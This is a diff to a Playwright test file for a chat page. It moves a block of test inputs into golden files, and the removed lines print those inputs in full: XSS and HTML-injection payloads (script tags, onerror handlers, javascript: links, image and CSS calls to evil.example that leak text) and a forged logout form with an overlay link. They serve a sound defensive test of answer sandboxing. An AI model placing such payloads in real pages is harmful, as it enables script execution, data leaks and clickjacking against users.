@@ -10,6 +10,7 @@ import socket
 import pytest
 from chat_page_driver import Chat, People, browser_fixture, cookies_fixture, people_fixture, rig_fixture, violations  # noqa: F401
 from chat_page_rig import Answer, ChatPage, Gate
+from golden_files import GOLDEN
 from playwright.sync_api import expect
 from waiting import left_s, until
 
@@ -136,35 +137,9 @@ def test_refusals_offer_to_leave_out_the_oldest_and_to_ask_again(people: People,
         chat.wait_over()
 
 
-HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">
-<svg onload="window.hacked = 1"><style>@import url(http://evil.example/a.css); body { display: none }</style>
-[link](javascript:window.hacked=1) ![image](https://evil.example/leak.png?words) [a](data:text/html,<script>1</script>)
-<link rel=stylesheet href=https://evil.example/b.css><iframe src=https://evil.example></iframe>
-<form action=https://evil.example><button>go</button></form> <a href="https://evil.example/" ping="https://evil.example">x</a>
-
-| <b onmouseover=window.hacked=1>table</b> | ![i][ref] |
-|---|---|
-| `<img src=x onerror=window.hacked=1>` | <video src=https://evil.example/v> |
-
-[ref]: https://evil.example/ref.png
-
-$\\href{javascript:window.hacked=1}{math}$ $\\includegraphics{https://evil.example/i.png}$
-
-```html
-<script>window.hacked = 1</script>
-```
-
-```mermaid
-graph LR; A-->B["<img src=x onerror=window.hacked=1>"]; click A "javascript:window.hacked=1"
-```
-The end of it."""
-
-
+HOSTILE = (GOLDEN / "chat" / "hostile.md").read_text("utf-8").rstrip()
 # Our reader of Markdown takes the last line for code, the page's does not.
-COVER = """> - ```
-<form action=logout method=post><button>go</button></form>
-<a href=https://evil.example style="position:fixed;inset:0;z-index:9999">x</a>
-"""
+COVER = (GOLDEN / "chat" / "cover.md").read_text("utf-8")
 
 
 def test_html_that_gets_into_an_answer_stays_in_its_box(people: People, rig: ChatPage) -> None:
